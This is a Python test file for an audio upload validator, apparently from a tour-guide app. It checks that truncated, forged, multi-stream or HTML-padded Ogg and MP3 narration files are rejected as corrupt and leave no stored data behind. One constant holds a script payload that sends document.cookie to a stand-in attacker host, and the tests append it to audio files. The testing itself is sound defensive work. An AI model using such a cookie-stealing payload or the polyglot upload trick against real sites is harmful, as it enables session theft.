"""Narration audio checked end to end: an Ogg file cut in half, cut at a page, with HTML
appended, with a forged duration, a damaged page or a second stream, an MP3 or M4A with
bytes appended, is AUDIO_CORRUPT (cut MP3 and M4A files are tests/tours/test_stops.py's);
confirming one deletes its upload and writes nothing else (both stores, both databases)."""

from __future__ import annotations

import struct
from collections.abc import Callable

import pytest
from sqlalchemy.ext.asyncio import AsyncConnection, AsyncSession

from core.errors import DomainError
from media.audio import check_audio
from media.audio_containers import ogg_crc
from media.errors import MediaError
from media.store import MediaStore
from qr.demo import demo_file
from tests.accounts.helpers import snapshot
from tests.qr.conftest import STAFF, data_file
from tours import stops

HTML = b"<html><body><script>fetch('//evil.example/'+document.cookie)</script></body></html>"
VTT = "WEBVTT\n\n00:00.000 --> 00:02.000\nXin chao.\n"


def ogg_pages(data: bytes) -> list[bytes]:
    """The pages of an Ogg file, as they are."""
    pages, pos = [], 0
    while pos < len(data):
        segments = data[pos + 26]
        end = pos + 27 + segments + sum(data[pos + 27:pos + 27 + segments])
        pages.append(data[pos:end])
        pos = end
    return pages


def resealed(page: bytes, *, granule: int | None = None, flags: int | None = None,
             serial: int | None = None) -> bytes:
    """A page with some header fields changed and its CRC made right again."""
    header = bytearray(page)
    if flags is not None:
        header[5] = flags
    if granule is not None:
        header[6:14] = struct.pack("<q", granule)
    if serial is not None:
        header[14:18] = struct.pack("<I", serial)
    header[22:26] = struct.pack("<I", ogg_crc(bytes(header)))
    return bytes(header)


def _ogg() -> bytes:
    return demo_file("chua-ba-thien-hau-2.vi.ogg")


def cut_at_a_page() -> bytes:
    pages = ogg_pages(_ogg())
    return b"".join(pages[: len(pages) // 2])


def longer_than_it_is() -> bytes:
    pages = ogg_pages(_ogg())
    last = pages[-1]
    granule = struct.unpack("<q", last[6:14])[0]
    return b"".join(pages[:-1]) + resealed(last, granule=granule + 48_000 * 600)


def second_stream() -> bytes:
    pages = ogg_pages(_ogg())
    return _ogg() + b"".join(resealed(p, serial=0x5EC0) for p in pages)


def damaged_page() -> bytes:
    data = bytearray(_ogg())
    data[len(data) // 2] ^= 0xFF
    return bytes(data)


HOSTILE: list[tuple[str, Callable[[], bytes], str]] = [
    ("Ogg cut in half", lambda: _ogg()[: len(_ogg()) // 2], "audio/ogg"),
    ("Ogg cut at a page", cut_at_a_page, "audio/ogg"),
    ("Ogg with HTML appended", lambda: _ogg() + HTML, "audio/ogg"),
    ("Ogg claiming ten more minutes", longer_than_it_is, "audio/ogg"),
    ("Ogg with a second stream", second_stream, "audio/ogg"),
    ("Ogg with a damaged page", damaged_page, "audio/ogg"),
    ("MP3 with HTML appended", lambda: data_file("tone.mp3") + HTML, "audio/mpeg"),
]


@pytest.mark.parametrize(("name", "make", "content_type"), HOSTILE, ids=[h[0] for h in HOSTILE])
def test_a_cut_or_padded_file_is_corrupt(name: str, make: Callable[[], bytes],
                                         content_type: str) -> None:
    with pytest.raises(MediaError) as refused:
        check_audio(make(), content_type=content_type)
    assert refused.value.code == "AUDIO_CORRUPT", refused.value.message


@pytest.mark.parametrize("name", ["Ogg cut in half", "Ogg with HTML appended",
                                  "MP3 with HTML appended"])
async def test_confirming_a_cut_or_padded_narration_deletes_it_and_writes_nothing(
        session: AsyncSession, store: MediaStore, connection: AsyncConnection,
        name: str) -> None:
    from tests.qr.conftest import make_guide_stop

    _, make, content_type = next(h for h in HOSTILE if h[0] == name)
    guide = await make_guide_stop(session, store)
    post = await stops.request_narration_upload(
        session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="ko",
        content_type=content_type)
    store.put(post.key, make(), content_type)
    await session.flush()
    before = await snapshot(connection, store)
    with pytest.raises(DomainError) as refused:
        await stops.confirm_narration_upload(
            session=session, store=store, actor=STAFF, stop_id=guide.stop.id, lang="ko",
            key=post.key, transcript=VTT, translation=stops.Translation.HUMAN)
    assert refused.value.code == "AUDIO_CORRUPT"
    assert await snapshot(connection, store) == dict(
        before, store=[k for k in before["store"] if k != post.key])
